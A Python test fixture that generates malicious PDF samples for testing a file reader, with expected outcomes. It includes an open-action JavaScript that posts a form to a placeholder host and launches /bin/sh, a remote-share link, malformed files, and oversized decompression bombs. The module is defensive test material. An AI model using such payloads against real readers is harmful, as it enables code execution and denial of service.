"""PDFs that mean harm: passwords, streams that swell, orders to run or to fetch, torn ones."""

import zlib

from hostile.files.case import HARMLESS, Case

MIB = 2**20
WORDS = b"BT /F 12 Tf 72 700 Td (Completed 12 of 15 works, 98.5% in time.) Tj ET\n"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, the first its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return out + (
        b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF"
        % (size, table, size, trailer, len(out))
    )


def page(content: bytes, *, catalogue: bytes = b"", extra: bytes = b"", kids: int = 1, packed: bool = True) -> bytes:
    """One page with this content, shown as often as asked."""
    stream = zlib.compress(content, 9) if packed else content
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogue,
        b"<</Type/Pages/Kids[%b]/Count %d>>" % (b"3 0 R " * kids, kids),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>%b>>" % extra,
        b"<</Length %d%b>>stream\n%b\nendstream" % (len(stream), b"/Filter/FlateDecode" if packed else b"", stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def encrypted() -> bytes:
    """Keys of a password that nobody knows."""
    keys = b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O<%b>/U<%b>>>/ID[<00><00>]" % (b"41" * 32, b"42" * 32)
    return page(WORDS).replace(b"/Root 1 0 R", b"/Root 1 0 R" + keys)


def scripted() -> bytes:
    """JavaScript, a program to start and a form to send, at once when opened."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://example.invalid/'\\))/Next<</S/Launch/F(/bin/sh)>>>>"
    form = b"/AcroForm<</Fields[]/XFA(<xdp/>)>>/OpenAction%b/AA<</O%b>>" % (script, script)
    return page(WORDS, catalogue=form, extra=b"/AA<</O%b>>" % script)


PDF = [
    Case("honest.pdf", HARMLESS, lambda: page(WORDS)),
    Case("pdf_named.txt", HARMLESS, lambda: page(WORDS)),
    Case("encrypted.pdf", "read.encrypted", encrypted),
    Case("scripts.pdf", HARMLESS, scripted),
    Case(
        "remote_file.pdf",
        HARMLESS,
        lambda: page(WORDS, extra=b"/Annots[<</Subtype/Link/A<</S/GoToR/F(\\\\\\\\host\\\\a)>>>>]"),
    ),
    Case("torn.pdf", "read.pdf_broken", lambda: b"%PDF-1.7\n" + page(WORDS)[40:200]),
    Case("head_only.pdf", "read.pdf_broken", lambda: b"%PDF-1.7\n"),
    Case("no_pages.pdf", "read.pdf_broken", lambda: pdf(b"<</Type/Catalog>>")),
    Case(
        "pages_in_a_circle.pdf",
        "read.pdf_broken",
        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    ),
    Case("pages_3000.pdf", "read.too_large", lambda: page(WORDS, kids=3_000)),
    Case("spaces_300MB.pdf", "read.too_large", lambda: page(b" " * (300 * MIB))),
    Case("boxes_5000000.pdf", "read.too_large", lambda: page(b"0 0 9 9 re f\n" * 5_000_000)),
    Case("boxes_110000.pdf", "read.too_large", lambda: page(b"0 0 9 9 re f\n" * 110_000)),
    Case(
        "letters_60000.pdf",
        "read.too_large",
        lambda: page(b"BT /F 9 Tf 9 TL " + b"(abcdefghijklmnopqrst) ' " * 3_000 + b"ET"),
    ),
    Case(
        "many_streams.pdf",
        "read.too_large",
        lambda: page(WORDS) + b"9 0 obj<<>>stream\n%b\nendstream endobj\n" % zlib.compress(b" " * 7 * MIB, 9) * 9,
    ),
]
